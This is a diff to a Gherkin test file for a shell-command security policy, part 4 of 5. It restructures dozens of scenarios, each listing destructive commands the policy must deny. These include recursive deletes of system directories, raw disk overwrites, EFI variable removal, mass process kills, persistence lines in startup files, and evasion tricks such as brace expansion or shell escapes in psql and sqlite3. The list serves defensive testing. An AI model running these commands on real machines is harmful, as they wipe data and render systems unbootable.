@@ -1,11 +1,8 @@
 Feature: Security policy - dangerous forms are denied (4 of 5)
-  Each Examples title says where its forms were found. Decisions of the policy alone: nothing is launched.
+  Each scenario's title says where its forms were found. Decisions of the policy alone: nothing is launched.
 
-  Scenario Outline: Dangerous forms are denied
-    Then the policy should deny: <command>
-    And its words, given to echo as text, should be allowed: <command>
-
-    Examples: found by a thirty-second corpus, hunting families not probed before (Windows's directories under WSL, macOS's /private, editors' batch deletes, a shell call's line completed at run time, ansible's modules)
+  Scenario: Dangerous forms are denied: found by a thirty-second corpus, hunting families not probed before (Windows's directories under WSL, macOS's /private, editors' batch deletes, a shell call's line completed at run time, ansible's modules)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | rm -rf /mnt/c/Windows |
       | rm -rf /private/var |
@@ -76,7 +73,8 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | mapfile -t a <<< $'rm\\n-rf\\n/'; "${a[@]}" |
       | readarray -t <<< $'rm\\n-rf\\n~'; "${MAPFILE[@]}" |
       | mapfile -C 'rm -rf ~ #' -c 1 lines < list.txt |
-    Examples: found by a fifty-second corpus (every process of root signalled by a user selection alone)
+  Scenario: Dangerous forms are denied: found by a fifty-second corpus (every process of root signalled by a user selection alone)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | pkill -9 -u root |
       | pkill -u 0 |
@@ -86,7 +84,8 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | pkill -u root,www-data |
       | killall -9 -u root |
       | killall -s KILL --user root |
-    Examples: found by a fifty-third corpus (a disk detached through sysfs, an image written onto a disk)
+  Scenario: Dangerous forms are denied: found by a fifty-third corpus (a disk detached through sysfs, an image written onto a disk)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | echo 1 > /sys/block/sda/device/delete |
       | echo 1 \| sudo tee /sys/block/nvme0n1/device/delete |
@@ -95,7 +94,8 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | qemu-img convert -O raw disk.qcow2 /dev/sda |
       | qemu-img dd if=x.img of=/dev/sda |
       | bmaptool copy image.img /dev/sdb |
-    Examples: found by a fifty-ninth corpus (fish's and husky's files run later, a here-string after an output redirection, Windows's programs directory, format.com, raw Windows disks)
+  Scenario: Dangerous forms are denied: found by a fifty-ninth corpus (fish's and husky's files run later, a here-string after an output redirection, Windows's programs directory, format.com, raw Windows disks)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | echo "rm -rf ~" > ~/.config/fish/config.fish |
       | echo "rm -rf /" > ~/.config/fish/conf.d/x.fish |
@@ -107,7 +107,8 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | format.com C: /q /y |
       | cmd /c del /f /s /q C:\\* |
       | dd if=/dev/zero of='\\\\.\\PhysicalDrive0' |
-    Examples: found by a sixty-first corpus (checkers, repairers and tuners writing a disk's filesystem, SCSI generic devices, zfs rollback -r)
+  Scenario: Dangerous forms are denied: found by a sixty-first corpus (checkers, repairers and tuners writing a disk's filesystem, SCSI generic devices, zfs rollback -r)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | e2fsck -y /dev/sda1 |
       | fsck -y /dev/sda1 |
@@ -120,7 +121,8 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | ntfsfix -d /dev/sdb1 |
       | sg_format --format /dev/sg0 |
       | zfs rollback -r rpool/ROOT@old |
-    Examples: found by a sixty-second corpus (ssh's rc, direnv, X sessions, motd and dispatcher scripts, apt's hooks, git configuration files, a hooks path, a redirection after `a && b`)
+  Scenario: Dangerous forms are denied: found by a sixty-second corpus (ssh's rc, direnv, X sessions, motd and dispatcher scripts, apt's hooks, git configuration files, a hooks path, a redirection after `a && b`)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | echo "rm -rf ~" >> ~/.ssh/rc |
       | echo "rm -rf ~" > .envrc && direnv allow |
@@ -135,18 +137,21 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | true && echo "rm -rf ~" >> ~/.bashrc |
       | true \|\| echo "rm -rf ~" >> ~/.bashrc |
       | echo "rm -rf ~" \| cat >> ~/.bashrc |
-    Examples: found by a sixty-third corpus (a shell script run by find -exec on each file deletes or empties it)
+  Scenario: Dangerous forms are denied: found by a sixty-third corpus (a shell script run by find -exec on each file deletes or empties it)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | find / -type f -exec sh -c 'rm -f "$1"' _ {} \\; |
       | find / -type f -exec sh -c ': > "$1"' _ {} \\; |
       | find /etc -type f -exec sh -c 'cat /dev/null > "$1"' _ {} \\; |
       | find ~ -type f -exec bash -c 'for f; do shred -u "$f"; done' _ {} + |
-    Examples: found by a seventy-second corpus (the root's device under its own name)
+  Scenario: Dangerous forms are denied: found by a seventy-second corpus (the root's device under its own name)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | cp /dev/zero /dev/root |
       | dd if=/dev/zero of=/dev/root |
 
-    Examples: found by an eighty-sixth corpus (fs-extra, rimraf, del, execa, Bun.spawnSync, a Go program written and run)
+  Scenario: Dangerous forms are denied: found by an eighty-sixth corpus (fs-extra, rimraf, del, execa, Bun.spawnSync, a Go program written and run)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | node -e "require('rimraf').sync('/')" |
       | node -e "require('del').deleteSync(['/etc/**'], {force: true})" |
@@ -154,13 +159,15 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | bun -e "Bun.spawnSync(['rm', '-rf', '/'])" |
       | printf 'package main\nimport "os"\nfunc main(){ os.RemoveAll("/") }\n' > x.go && go run x.go |
 
-    Examples: found while probing the firmware (its EFI variables deleted: some machines do not start again)
+  Scenario: Dangerous forms are denied: found while probing the firmware (its EFI variables deleted: some machines do not start again)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | rm -rf /sys/firmware/efi/efivars/* |
       | rm -rf /sys/firmware/efi/efivars |
       | chattr -i /sys/firmware/efi/efivars/* && rm -f /sys/firmware/efi/efivars/* |
 
-    Examples: found by a ninetieth corpus (what a remote machine needs at its next start, and the links programs are found by)
+  Scenario: Dangerous forms are denied: found by a ninetieth corpus (what a remote machine needs at its next start, and the links programs are found by)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | rm -rf /etc/ssh |
       | rm -rf /etc/ssl/certs/* |
@@ -169,7 +176,8 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | rm -rf /etc/alternatives |
       | rm -f /etc/ssh/ssh_host_* |
 
-    Examples: found by an eighty-ninth corpus (virtual-disk tools given the machine's own disks)
+  Scenario: Dangerous forms are denied: found by an eighty-ninth corpus (virtual-disk tools given the machine's own disks)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | qemu-img create -f raw /dev/sda 1G |
       | qemu-img resize /dev/sda 1G |
@@ -178,21 +186,24 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | guestfish --rw -a /dev/vda -i rm-rf / |
       | fsarchiver restfs backup.fsa id=0,dest=/dev/sda1 |
 
-    Examples: found by an eighty-seventh corpus (every top-level directory renamed by rename, prename or mmv)
+  Scenario: Dangerous forms are denied: found by an eighty-seventh corpus (every top-level directory renamed by rename, prename or mmv)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | rename 's/^/x/' /* |
       | prename 's/$/.old/' /etc /usr |
       | mmv '/*' '/#1.bak' |
       | rename usr usr.old /usr |
 
-    Examples: found while probing writes to disks by other programs (socat's written address, a download onto a device)
+  Scenario: Dangerous forms are denied: found while probing writes to disks by other programs (socat's written address, a download onto a device)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | socat -u /dev/zero /dev/sda |
       | socat -u FILE:/dev/zero,ignoreeof OPEN:/dev/sda |
       | curl -o /dev/sda https://example.com/img |
       | wget -O /dev/nvme0n1 https://example.com/img |
 
-    Examples: found by an eighty-fourth corpus (NixOS's, Guix's and Homebrew's own trees)
+  Scenario: Dangerous forms are denied: found by an eighty-fourth corpus (NixOS's, Guix's and Homebrew's own trees)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | rm -rf /nix |
       | rm -rf /nix/store |
@@ -200,13 +211,15 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | rm -rf /etc/nixos |
       | rm -rf /opt/homebrew |
 
-    Examples: found by an eighty-second corpus (lvresize shrinking a volume, or forced past its prompt, without shrinking its filesystem)
+  Scenario: Dangerous forms are denied: found by an eighty-second corpus (lvresize shrinking a volume, or forced past its prompt, without shrinking its filesystem)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | lvresize -y -L 2G vg0/home |
       | lvresize -L -5G vg0/home |
       | lvresize -l -100%FREE vg0/data |
 
-    Examples: found by an eighty-first corpus (downloads written over vital programs; env, sudo and su vital too)
+  Scenario: Dangerous forms are denied: found by an eighty-first corpus (downloads written over vital programs; env, sudo and su vital too)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | curl -o /bin/bash https://example.com/x |
       | curl -sSLo /usr/bin/sudo https://example.com/x |
@@ -217,14 +230,16 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | install -m 755 /dev/null /usr/bin/env |
       | cat /dev/null > /usr/bin/env |
 
-    Examples: found by an eightieth corpus (every kernel package removed, the EFI partition at /efi, grub's menu scripts)
+  Scenario: Dangerous forms are denied: found by an eightieth corpus (every kernel package removed, the EFI partition at /efi, grub's menu scripts)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | apt-get purge -y linux-image-* |
       | dnf remove 'kernel*' |
       | rm -rf /efi/* |
       | rm -rf /etc/grub.d |
 
-    Examples: found by a seventy-ninth corpus (every process selected by a pattern every name matches, by pkill -v, or by the ids ps and pgrep list)
+  Scenario: Dangerous forms are denied: found by a seventy-ninth corpus (every process selected by a pattern every name matches, by pkill -v, or by the ids ps and pgrep list)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | pkill -9 -f . |
       | pkill -f '' |
@@ -237,7 +252,8 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | kill -9 $(ls /proc \| grep -E '^[0-9]+$') |
       | systemctl kill --signal=SIGKILL '*' |
 
-    Examples: found by a seventy-eighth corpus (salt's file.remove, puppet apply -e and chef-apply -e deleting or running)
+  Scenario: Dangerous forms are denied: found by a seventy-eighth corpus (salt's file.remove, puppet apply -e and chef-apply -e deleting or running)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | salt-call --local file.remove /etc |
       | puppet apply -e "file { '/etc': ensure => absent, force => true }" |
@@ -245,7 +261,8 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | chef-apply -e "directory '/etc' do action :delete; recursive true end" |
       | chef-apply -e "file '/etc/passwd' do action :delete end" |
 
-    Examples: found by a seventy-seventh corpus (vital files edited in place: lines blanked, some kept, deleted by ex or vim in batch, kept by an awk pattern)
+  Scenario: Dangerous forms are denied: found by a seventy-seventh corpus (vital files edited in place: lines blanked, some kept, deleted by ex or vim in batch, kept by an awk pattern)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | sed -i 's/^root:.*//' /etc/passwd |
       | sed -i 's#/bin/bash#/bin/false#' /etc/passwd |
@@ -257,7 +274,8 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | ex -sc 'g/root/d\|x' /etc/passwd |
       | vim -es +'%d' +wq /etc/fstab |
 
-    Examples: found by a seventy-fifth corpus (what every folder of the home holds, zsh's parameter flags and glob qualifiers)
+  Scenario: Dangerous forms are denied: found by a seventy-fifth corpus (what every folder of the home holds, zsh's parameter flags and glob qualifiers)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | rm -rf ~/*/* |
       | rm -rf ~/**/* |
@@ -267,14 +285,16 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | zsh -c 'rm -rf ${~HOME}' |
       | echo 'rm -rf ${=HOME}' \| zsh |
 
-    Examples: found by a seventy-fourth corpus (an octal mode of one or two digits, unison forced onto the home)
+  Scenario: Dangerous forms are denied: found by a seventy-fourth corpus (an octal mode of one or two digits, unison forced onto the home)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | chmod 0 /usr |
       | chmod 0 /etc/passwd |
       | unison /tmp/empty ~ -batch -force /tmp/empty |
       | unison -root /tmp/e -root / -prefer /tmp/e |
 
-    Examples: found by a seventy-third corpus (R, Tcl's file delete and Haskell fed on stdin, a program file the line wrote)
+  Scenario: Dangerous forms are denied: found by a seventy-third corpus (R, Tcl's file delete and Haskell fed on stdin, a program file the line wrote)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | R --vanilla <<< 'unlink("~", recursive=TRUE)' |
       | tclsh <<< 'file delete -force $env(HOME)' |
@@ -282,7 +302,8 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | echo 'import shutil; shutil.rmtree("/")' > x.py && python3 x.py |
       | printf 'import os\nos.system("rm -rf ~")\n' > t.py; python3 -u t.py |
 
-    Examples: what find prints by name, fed to xargs or substituted, is judged as find's own deletes are
+  Scenario: Dangerous forms are denied: what find prints by name, fed to xargs or substituted, is judged as find's own deletes are
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | find ~ -name "*" \| xargs rm -rf |
       | find ~ -iname documents \| xargs rm -rf |
@@ -290,7 +311,8 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | find /etc -name "*.conf" \| xargs rm -f |
       | cd /etc && rm -rf $(find . -name "*.conf") |
 
-    Examples: found by a hundred-and-twelfth corpus (udev rules, a program shadowing one in the system's PATH, package.json scripts)
+  Scenario: Dangerous forms are denied: found by a hundred-and-twelfth corpus (udev rules, a program shadowing one in the system's PATH, package.json scripts)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | echo 'ACTION=="add", RUN+="/bin/rm -rf /"' > /etc/udev/rules.d/99-x.rules |
       | printf '#!/bin/sh\nrm -rf /\n' > /usr/local/bin/ls && chmod +x /usr/local/bin/ls |
@@ -298,7 +320,8 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | echo '{"scripts":{"pretest":"rm -rf /","test":"jest"}}' > package.json && yarn test |
       | echo '{"scripts":{"clean":"rm -rf /usr"}}' > package.json && pnpm run clean |
 
-    Examples: found by a hundred-and-eighth corpus (disk keys, self-encrypting drives, flash, the TPM)
+  Scenario: Dangerous forms are denied: found by a hundred-and-eighth corpus (disk keys, self-encrypting drives, flash, the TPM)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | cryptsetup luksRemoveKey /dev/sda2 /tmp/key |
       | cryptsetup luksHeaderRestore /dev/sda2 --header-backup-file hdr.img |
@@ -346,7 +369,8 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | rm -rf /mnt/d/Users/me/* |
       | diskutil eraseVolume APFS Blank /Volumes/Data |
 
-    Examples: interactive programs' shell escapes in what they read (\! in psql, .shell in sqlite3, shell in gdb)
+  Scenario: Dangerous forms are denied: interactive programs' shell escapes in what they read (\! in psql, .shell in sqlite3, shell in gdb)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | psql <<< "\\! rm -rf /" |
       | sqlite3 x.db <<< '.shell rm -rf ~' |
@@ -354,12 +378,14 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | mysql -u root <<< 'system rm -rf /etc' |
       | sftp host <<< '!rm -rf ~' |
 
-    Examples: found by a hundredth corpus (what trap ... EXIT runs is judged with what the line set by its end)
+  Scenario: Dangerous forms are denied: found by a hundredth corpus (what trap ... EXIT runs is judged with what the line set by its end)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | trap 'rm -rf "$d"' EXIT; d=/ |
       | trap 'rm -rf "$d"' 0; cd /; d=etc |
 
-    Examples: found by a ninety-ninth corpus (deno's npm: runner, a program run by the debugger, a justfile)
+  Scenario: Dangerous forms are denied: found by a ninety-ninth corpus (deno's npm: runner, a program run by the debugger, a justfile)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | deno run -A npm:rimraf / |
       | deno x npm:rimraf@5 ~ |
@@ -368,7 +394,8 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | just --justfile <(printf "x:\n\trm -rf /\n") x |
       | printf "x:\n\trm -rf /\n" > justfile; just x |
 
-    Examples: found by a ninety-seventh corpus (sudo without setuid, memory devices, SELinux labels, asr)
+  Scenario: Dangerous forms are denied: found by a ninety-seventh corpus (sudo without setuid, memory devices, SELinux labels, asr)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | chmod u-s /usr/bin/sudo |
       | chmod 755 /usr/bin/sudo |
@@ -379,19 +406,22 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | chcon -R -t user_home_t / |
       | asr restore --source x.dmg --target /Volumes/Data --erase --noprompt |
 
-    Examples: found by a ninety-sixth corpus (tar's --recursive-unlink deletes what is there before it extracts)
+  Scenario: Dangerous forms are denied: found by a ninety-sixth corpus (tar's --recursive-unlink deletes what is there before it extracts)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | tar -C ~ --recursive-unlink -xf empty.tar . |
       | tar --recursive-unlink -xf a.tar -C / |
       | cd / && tar xf a.tar --recursive-unlink |
 
-    Examples: found by a ninety-fifth corpus (the root account deleted)
+  Scenario: Dangerous forms are denied: found by a ninety-fifth corpus (the root account deleted)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | userdel root |
       | sudo deluser root |
       | userdel -f root |
 
-    Examples: found by a hundred-and-thirty-fifth corpus (what Vim's and Emacs's startup files, logrotate's scripts and KDE's login scripts will run)
+  Scenario: Dangerous forms are denied: found by a hundred-and-thirty-fifth corpus (what Vim's and Emacs's startup files, logrotate's scripts and KDE's login scripts will run)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | echo 'autocmd VimEnter * !rm -rf ~' >> ~/.vimrc |
       | echo 'call system("rm -rf ~")' >> ~/.vimrc |
@@ -400,21 +430,24 @@ Feature: Security policy - dangerous forms are denied (4 of 5)
       | echo 'rm -rf ~' > ~/.config/plasma-workspace/env/x.sh |
       | echo '@reboot root rm -rf /' \| sudo tee /etc/cron.d/x |
 
-    Examples: a brace list where a command starts, which bash expands into the command's words
+  Scenario: Dangerous forms are denied: a brace list where a command starts, which bash expands into the command's words
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | {rm,-rf,/} |
       | echo ok; {rm,-rf,/etc} |
       | if true; then {rm,-rf,~}; fi |
       | cd /; {rm,-rf,*} |
 
-    Examples: found by a hundred-and-thirtieth corpus (the registry through PowerShell's provider, Windows's boot entries)
+  Scenario: Dangerous forms are denied: found by a hundred-and-thirtieth corpus (the registry through PowerShell's provider, Windows's boot entries)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | pwsh -c 'Remove-Item -Recurse -Force HKLM:\\SYSTEM' |
       | pwsh -c 'Remove-Item -Recurse -Force Registry::HKEY_LOCAL_MACHINE\\SOFTWARE' |
       | bcdedit /delete {current} |
       | bcdedit.exe /delete {bootmgr} /f |
 
-    Examples: found by a hundred-and-twenty-eighth corpus (Terminal's do script, Windows Terminal's command line, Java's, Kotlin's and Scala's process calls, gnuplot's shell escapes, zx's $`...`, every php -B/-R/-E)
+  Scenario: Dangerous forms are denied: found by a hundred-and-twenty-eighth corpus (Terminal's do script, Windows Terminal's command line, Java's, Kotlin's and Scala's process calls, gnuplot's shell escapes, zx's $`...`, every php -B/-R/-E)
+    Then the policy should deny each command, and allow its words given to echo as text:
       | command |
       | osascript -e 'tell application "Terminal" to do script "rm -rf ~"' |
       | wt.exe new-tab cmd /c rd /s /q C:\\\\ |
